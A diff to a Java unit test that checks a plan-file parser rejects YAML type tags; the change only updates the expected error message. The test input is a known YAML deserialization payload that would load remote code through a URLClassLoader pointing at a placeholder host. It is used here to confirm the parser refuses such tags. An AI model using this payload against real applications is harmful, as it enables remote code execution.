@@ -233,8 +233,8 @@ class PlanFileTest {
     void tagsInTheFileCannotCreateObjects() {
         String yaml = MINIMAL.replace("name: prod", "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]");
         var e = assertThrows(PlanFileException.class, () -> PlanFile.parse("cluster.yaml", yaml));
-        assertEquals("cluster.yaml:2:9: not allowed in a plan file: Global tag is not allowed:"
-                + " tag:yaml.org,2002:javax.script.ScriptEngineManager", e.problems().get(0).toString());
+        assertEquals("cluster.yaml:2:9: a tag that names a type (!!name) is not allowed; Mast reads plain values: remove the tag",
+                e.problems().get(0).toString());
     }
 
     @Test
